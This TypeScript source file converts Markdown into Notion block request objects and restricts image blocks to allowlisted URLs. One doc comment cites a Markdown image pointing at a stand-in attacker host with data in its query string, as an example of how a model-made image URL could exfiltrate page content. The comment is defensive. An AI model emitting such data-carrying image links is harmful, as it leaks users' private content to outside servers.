// Markdown (CommonMark + GFM) → Notion block request objects. Nesting is kept to any depth here;
// block-writer.ts splits deep trees into requests Notion accepts.
// Longer than most files, on purpose: one converter, a case per Markdown node, read top to bottom.
import type { BlockObjectRequest } from '@notionhq/client';
import type {
  Blockquote,
  Code,
  FootnoteDefinition,
  Heading,
  List,
  ListItem,
  Nodes,
  PhrasingContent,
  Root,
  RootContent,
  Table,
  TableCell,
} from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { toNotionLanguage, type NotionLanguage } from './code-languages';
import { NOTION_EQUATION_MAX_CHARS } from './limits';
import {
  chunkRichText,
  phrasingToRichText,
  richTextToPlainText,
  splitLongItems,
  splitText,
  textToRichText,
  toExternalFileUrl,
  type DefinitionLookup,
  type TextItem,
} from './rich-text';
import { type RichTextItemRequest, type BlockTree } from '../shared/notion-shapes';

// ---- BlockTree: a request block whose children nest to any depth ----

/** The type-specific data of a block (`block[block.type]`), for code that handles every type alike. */
function blockData(block: BlockTree): { children?: BlockTree[] } {
  const record: Record<string, unknown> = block;
  const data = record[block.type];
  return typeof data === 'object' && data !== null ? (data as { children?: BlockTree[] }) : {};
}

/** A block's children, `[]` when it has none. */
export function blockChildren(block: BlockTree): BlockTree[] {
  return blockData(block).children ?? [];
}

/** A copy of `block` with its children replaced; no children (or none given) drops the key. */
export function withChildren(block: BlockTree, children: readonly BlockTree[] | undefined): BlockTree {
  const data: { children?: BlockTree[] } = { ...blockData(block) };
  if (children && children.length > 0) data.children = [...children];
  else delete data.children;
  return { ...block, [block.type]: data } as BlockTree;
}

/**
 * A tree as the SDK's request type. Only for trees whose depth the caller has already limited to
 * what one request allows (the SDK type encodes that limit, our tree type deliberately does not).
 */
export function toBlockRequest(block: BlockTree): BlockObjectRequest {
  return block as BlockObjectRequest;
}

// ---- Markdown → BlockTree ----

/** Text blocks whose data is `{ rich_text, … }`. */
type TextBlockType =
  'paragraph' | 'heading_1' | 'heading_2' | 'heading_3' | 'bulleted_list_item' | 'numbered_list_item' | 'quote';

/**
 * Heading depth → block type. Markdown's h4–h6 become heading_3: heading_4 exists only on newer
 * API versions, and the deepest level we write is the closest shape on every version.
 */
const HEADING_TYPES = ['heading_1', 'heading_2', 'heading_3'] as const;

interface Context {
  definitions: DefinitionLookup;
  /** Whether an image of the answer may become an image block (which Notion fetches). */
  allowImage: (url: string) => boolean;
  /** Fence info string marking a `$$` display math block (see `protectDisplayMath`). */
  mathToken: string;
}

export interface MarkdownOptions {
  /**
   * Which images become image blocks. Notion fetches an image block's URL, so an image the model
   * made up could carry page or row content to any server (`![](https://attacker/?d=…)`); the
   * caller allows only URLs the user gave or chose. Any other image stays a visible link. Default: none.
   */
  allowImage?: (url: string) => boolean;
}

function parse(markdown: string): { tree: Root; token: string } {
  const { source, token } = protectDisplayMath(markdown);
  return { tree: fromMarkdown(source, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }), token };
}

/**
 * Converts Markdown to Notion blocks. Tables, strikethrough, task lists and autolinks follow GFM.
 * Only a `$$` block on lines of its own is math; `$…$` inline stays literal ("$5 and $10").
 * Raw HTML is kept as text, never interpreted. Empty input gives [].
 */
export function markdownToBlocks(markdown: string, options: MarkdownOptions = {}): BlockTree[] {
  const { tree, token } = parse(markdown);
  const ctx: Context = {
    definitions: collectDefinitions(tree),
    mathToken: token,
    allowImage: options.allowImage ?? (() => false),
  };
  return convertNodes(tree.children, ctx);
}

/** The URLs of the images in a Markdown text (inline and by reference), in order. */
export function imageUrls(markdown: string): string[] {
  const { tree } = parse(markdown);
  const definitions = collectDefinitions(tree);
  const urls: string[] = [];
  const visit = (node: Nodes): void => {
    if (node.type === 'image') urls.push(node.url);
    if (node.type === 'imageReference') {
      const url = definitions(node.identifier)?.url;
      if (url !== undefined) urls.push(url);
    }
    if ('children' in node) for (const child of node.children) visit(child);
  };
  visit(tree);
  return urls;
}

function convertNodes(nodes: readonly RootContent[], ctx: Context): BlockTree[] {
  return nodes.flatMap((node) => convertNode(node, ctx));
}

function convertNode(node: RootContent, ctx: Context): BlockTree[] {
  switch (node.type) {
    case 'paragraph':
      return paragraphBlocks(node.children, ctx);
    case 'heading':
      return headingBlocks(node, ctx);
    case 'list':
      return listBlocks(node, ctx);
    case 'listItem':
      return [listItemBlock(node, false, ctx)];
    case 'blockquote':
      return [quoteBlock(node, ctx)];
    case 'thematicBreak':
      return [{ type: 'divider', divider: {} }];
    case 'code':
      return codeNodeBlocks(node, ctx);
    case 'table':
      return tableBlocks(node, ctx);
    case 'html':
      // Shown as its source so a model's stray <div> never turns into something else.
      return textBlocks('paragraph', splitLongItems([plainItem(node.value)]));
    case 'footnoteDefinition':
      return footnoteBlocks(node, ctx);
    case 'definition':
    case 'yaml':
      return [];
    case 'tableRow':
    case 'tableCell':
      // Only reachable inside a table, which handles its rows itself.
      return [];
    default:
      // Phrasing content at block level (not produced by the parser, but allowed by the types).
      return paragraphBlocks([node], ctx);
  }
}

function plainItem(content: string): TextItem {
  return { type: 'text', text: { content } };
}

/** One text block per ≤100-item chunk; continuation chunks become paragraphs after it. */
function textBlocks(type: TextBlockType, items: readonly RichTextItemRequest[]): BlockTree[] {
  const [first = [], ...rest] = chunkRichText(items);
  return [textBlock(type, first), ...rest.map((chunk) => textBlock('paragraph', chunk))];
}

function textBlock(type: TextBlockType, rich_text: RichTextItemRequest[], children?: BlockTree[]): BlockTree {
  const data = children && children.length > 0 ? { rich_text, children } : { rich_text };
  switch (type) {
    case 'paragraph':
      return { type, paragraph: data };
    case 'heading_1':
      return { type, heading_1: data };
    case 'heading_2':
      return { type, heading_2: data };
    case 'heading_3':
      return { type, heading_3: data };
    case 'bulleted_list_item':
      return { type, bulleted_list_item: data };
    case 'numbered_list_item':
      return { type, numbered_list_item: data };
    case 'quote':
      return { type, quote: data };
  }
}

/**
 * A paragraph's inline content. Images that stand on their own (not inside a link) with an
 * absolute http(s) URL the caller allows are lifted out as image blocks, splitting the paragraph
 * around them; other images stay text: their alt text (or URL), linked to the image.
 */
function paragraphBlocks(children: readonly PhrasingContent[], ctx: Context): BlockTree[] {
  const blocks: BlockTree[] = [];
  let run: PhrasingContent[] = [];
  const flush = (): void => {
    const items = trimEdges(phrasingToRichText(run, ctx.definitions));
    if (richTextToPlainText(items).trim().length > 0) blocks.push(...textBlocks('paragraph', items));
    run = [];
  };
  for (const child of children) {
    const image = standaloneImage(child, ctx);
    if (image) {
      flush();
      blocks.push(image);
    } else {
      run.push(child);
    }
  }
  flush();
  return blocks;
}

function standaloneImage(node: PhrasingContent, ctx: Context): BlockTree | null {
  if (node.type !== 'image' && node.type !== 'imageReference') return null;
  const source = node.type === 'image' ? node.url : ctx.definitions(node.identifier)?.url;
  const url = source === undefined ? null : toExternalFileUrl(source);
  if (url === null || !ctx.allowImage(url)) return null;
  const caption = textToRichText(node.alt ?? '').items;
  return {
    type: 'image',
    image: { type: 'external', external: { url }, ...(caption.length > 0 ? { caption } : {}) },
  };
}

/** Drops whitespace at the very start and end, left behind where an image was lifted out. */
function trimEdges(items: TextItem[]): TextItem[] {
  const trimmed = items.map((item) => ({ ...item, text: { ...item.text } }));
  const first = trimmed[0];
  if (first) first.text.content = first.text.content.trimStart();
  const last = trimmed[trimmed.length - 1];
  if (last) last.text.content = last.text.content.trimEnd();
  return trimmed.filter((item) => item.text.content.length > 0);
}

function headingBlocks(node: Heading, ctx: Context): BlockTree[] {
  const type = HEADING_TYPES[Math.min(node.depth, HEADING_TYPES.length) - 1] ?? 'heading_3';
  return textBlocks(type, phrasingToRichText(node.children, ctx.definitions));
}

function listBlocks(list: List, ctx: Context): BlockTree[] {
  return list.children.map((item) => listItemBlock(item, list.ordered === true, ctx));
}

/**
 * A list item: its first paragraph is the item's text; everything after it (more paragraphs,
 * nested lists, code…) becomes the item's children. A GFM task item (`- [ ]`, `- [x]`) is a to_do.
 */
function listItemBlock(item: ListItem, ordered: boolean, ctx: Context): BlockTree {
  const { text, children } = leadingTextAndChildren(item.children, ctx);
  if (typeof item.checked === 'boolean') {
    const block: BlockTree = { type: 'to_do', to_do: { rich_text: text, checked: item.checked } };
    return withChildren(block, children);
  }
  return textBlock(ordered ? 'numbered_list_item' : 'bulleted_list_item', text, children);
}

/** A quote's first paragraph is its text; further blocks are its children. */
function quoteBlock(node: Blockquote, ctx: Context): BlockTree {
  const { text, children } = leadingTextAndChildren(node.children, ctx);
  return textBlock('quote', text, children);
}

/**
 * Splits a container's content into the text of the block itself (its first paragraph, up to 100
 * items) and its children (the rest of that paragraph's text as paragraphs, then other blocks).
 */
function leadingTextAndChildren(
  nodes: readonly RootContent[],
  ctx: Context,
): { text: RichTextItemRequest[]; children: BlockTree[] } {
  const [first, ...rest] = nodes;
  if (first?.type !== 'paragraph') return { text: [], children: convertNodes(nodes, ctx) };
  const [lead, ...more] = paragraphBlocks(first.children, ctx);
  const children = [...more, ...convertNodes(rest, ctx)];
  if (lead?.type === 'paragraph') return { text: lead.paragraph.rich_text, children };
  return { text: [], children: lead ? [lead, ...children] : children };
}

function codeNodeBlocks(node: Code, ctx: Context): BlockTree[] {
  if (node.lang === ctx.mathToken) return equationBlocks(node.value);
  return codeBlocks(node.value, toNotionLanguage(node.lang));
}

/**
 * Code split into ≤2,000-character items (at line ends where possible); past 100 items the code
 * continues in another code block with the same language.
 */
function codeBlocks(code: string, language: NotionLanguage): BlockTree[] {
  const chunks = chunkRichText(splitText(code).map(plainItem));
  if (chunks.length === 0) return [{ type: 'code', code: { rich_text: [], language } }];
  return chunks.map((rich_text) => ({ type: 'code', code: { rich_text, language } }));
}

/** A `$$` block: an equation, or LaTeX code when the expression is over Notion's 1,000 characters. */
function equationBlocks(source: string): BlockTree[] {
  const expression = source.trim();
  if (expression.length === 0) return [];
  if (expression.length > NOTION_EQUATION_MAX_CHARS) return codeBlocks(expression, 'latex');
  return [{ type: 'equation', equation: { expression } }];
}

/**
 * A GFM table: the header row is the first row and sets the width; every row gets exactly that
 * many cells (padded with empty cells or cut). Rows are the table's children.
 */
function tableBlocks(node: Table, ctx: Context): BlockTree[] {
  const width = node.children[0]?.children.length ?? 0;
  if (width === 0) return [];
  const rows: BlockTree[] = node.children.map((row) => ({
    type: 'table_row',
    table_row: {
      cells: Array.from({ length: width }, (_, i) => cellRichText(row.children[i], ctx)),
    },
  }));
  return [
    {
      type: 'table',
      table: { table_width: width, has_column_header: true, has_row_header: false, children: rows },
    },
  ];
}

/** A cell holds one rich text array: anything past its first 100 items is dropped. */
function cellRichText(cell: TableCell | undefined, ctx: Context): RichTextItemRequest[] {
  if (!cell) return [];
  return chunkRichText(phrasingToRichText(cell.children, ctx.definitions))[0] ?? [];
}

/** `[^1]: text` → the note's blocks, its label leading the first paragraph. */
function footnoteBlocks(node: FootnoteDefinition, ctx: Context): BlockTree[] {
  const label = plainItem(`[^${node.label ?? node.identifier}]: `);
  const [first, ...rest] = convertNodes(node.children, ctx);
  if (first?.type === 'paragraph') {
    return [...textBlocks('paragraph', [label, ...first.paragraph.rich_text]), ...rest];
  }
  return [textBlock('paragraph', [label]), ...(first ? [first, ...rest] : [])];
}

function collectDefinitions(tree: Root): DefinitionLookup {
  const urls = new Map<string, string>();
  const visit = (nodes: readonly RootContent[]): void => {
    for (const node of nodes) {
      // The first definition of a label wins, as in CommonMark.
      if (node.type === 'definition' && !urls.has(node.identifier)) urls.set(node.identifier, node.url);
      if ('children' in node) visit(node.children as RootContent[]);
    }
  };
  visit(tree.children);
  return (identifier) => {
    const url = urls.get(identifier);
    return url === undefined ? undefined : { url };
  };
}

// ---- `$$` display math ----

const DISPLAY_MATH_LINE = /^([ \t]*(?:>[ \t]?)*[ \t]*)\$\$[ \t\r]*$/;
const FENCE_LINE = /^[ \t>]*(`{3,}|~{3,})(.*)$/;

/**
 * Rewrites each display math block — `$$` alone on a line, the expression, `$$` alone on a line —
 * into a fenced code block tagged with a token that occurs nowhere in the input, so the parser keeps
 * the expression verbatim (no emphasis from `*`/`_`, blank lines allowed) and we can recognise it.
 * We add no math syntax extension on purpose: inline `$…$` must stay plain text. `$$` lines inside
 * fenced code are left alone; an unclosed `$$` stays text.
 */
export function protectDisplayMath(markdown: string): { source: string; token: string } {
  let token = 'inkling-display-math';
  while (markdown.includes(token)) token += '-x';
  const lines = markdown.split('\n');
  let fence: { char: string; length: number } | null = null;
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i] ?? '';
    const fenceMatch = FENCE_LINE.exec(line);
    if (fence) {
      const closes =
        fenceMatch?.[1]?.[0] === fence.char &&
        (fenceMatch[1]?.length ?? 0) >= fence.length &&
        (fenceMatch[2] ?? '').trim() === '';
      if (closes) fence = null;
      continue;
    }
    if (fenceMatch?.[1]) {
      // A backtick fence's info string cannot contain a backtick; then it is not a fence.
      const info = fenceMatch[2] ?? '';
      if (!(fenceMatch[1].startsWith('`') && info.includes('`'))) {
        fence = { char: fenceMatch[1][0] ?? '`', length: fenceMatch[1].length };
      }
      continue;
    }
    const open = DISPLAY_MATH_LINE.exec(line);
    if (!open) continue;
    const close = lines.findIndex((candidate, j) => j > i && DISPLAY_MATH_LINE.test(candidate));
    if (close === -1) continue;
    const body = lines.slice(i + 1, close);
    const longestRun = Math.max(0, ...body.map((l) => Math.max(0, ...(l.match(/`+/g) ?? []).map((r) => r.length))));
    const marker = '`'.repeat(Math.max(3, longestRun + 1));
    const closePrefix = DISPLAY_MATH_LINE.exec(lines[close] ?? '')?.[1] ?? '';
    lines[i] = `${open[1] ?? ''}${marker}${token}`;
    lines[close] = `${closePrefix}${marker}`;
    i = close;
  }
  return { source: lines.join('\n'), token };
}
